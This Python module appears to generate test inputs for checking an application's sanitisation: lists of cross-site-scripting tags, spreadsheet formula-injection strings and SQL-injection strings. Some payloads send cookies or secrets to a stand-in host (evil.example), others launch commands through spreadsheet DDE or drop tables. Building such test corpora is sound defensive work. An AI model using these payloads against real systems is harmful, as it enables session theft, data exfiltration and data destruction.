"""What attackers put into text that somebody else will look at: 200 scripts, 30 formulas, 60 pieces of SQL."""

from __future__ import annotations

from typing import Final
from urllib.parse import quote

_CALLS: Final = ("alert(1)", "fetch('//evil.example/'+document.cookie)")
_TAGS: Final = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={}>",
    "<img src=x onerror={}//",
    '<img """><script>{}</script>">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video src=x onerror={}>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{background:url(//evil.example/)}}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
)
_BREAKS: Final = (
    "{}",
    "'>{}",
    '">{}',
    "</td></tr></table>{}",
    "</title>{}",
    "</style>{}",
    "-->{}",
    "]]>{}",
    "\x00{}",
    "&lt;/td&gt;{}",
)


def _scripts() -> tuple[str, ...]:
    tags = [tag.format(call) for call in _CALLS for tag in _TAGS]
    made = [way.format(tag) for way in _BREAKS for tag in tags[: len(_TAGS)]]
    odd = [
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "![x](https://evil.example/beacon?{{secret}})",
        "[x](javascript:alert(1))",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "<%= 7*7 %>",
        "{% raw %}<script>alert(1)</script>",
        "\u2028<script>alert(1)</script>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        quote("<script>alert(1)</script>"),
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "' onmouseover=alert(1) x='",
        '" onmouseover=alert(1) x="',
        "` onmouseover=alert(1)",
    ]
    return tuple(dict.fromkeys([*odd, *made]))[:200]


SCRIPTS: Final = _scripts()
FORMULAS: Final = tuple(
    start + rest
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "  =", " +", "x\r=", "x\n=", 'x",=')
    for rest in ('HYPERLINK("http://evil.example?"&A1,"x")', "cmd|' /C calc'!A0", "1+1", "SUM(1)*cmd|'/c x'!A1")
)
SQL: Final = tuple(
    piece + end
    for piece in (
        "'",
        '"',
        "' OR '1'='1",
        '" OR "1"="1',
        "' OR 1=1 --",
        "1 OR 1=1",
        "1; DROP TABLE exchanges",
        "'; DROP TABLE exchanges; --",
        "' UNION SELECT name FROM sqlite_master --",
        "') UNION SELECT digest FROM keys --",
        "1 AND randomblob(1000000000)",
        "' AND load_extension('x') --",
        "'||(SELECT sql FROM sqlite_master)||'",
        "%27%20OR%201=1",
        "\\' OR 1=1",
        "*",
        "%",
        "_",
        "[a-z]",
        "NULL",
        "?1",
        ":name",
        "@x",
        "$x",
        "(SELECT 1)",
        "/**/",
        "a\x00b",
        "\uff53\uff45\uff4c\uff45\uff43\uff54",
        "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
        "🔑" * 40,
    )
    for end in ("", ") --")
)
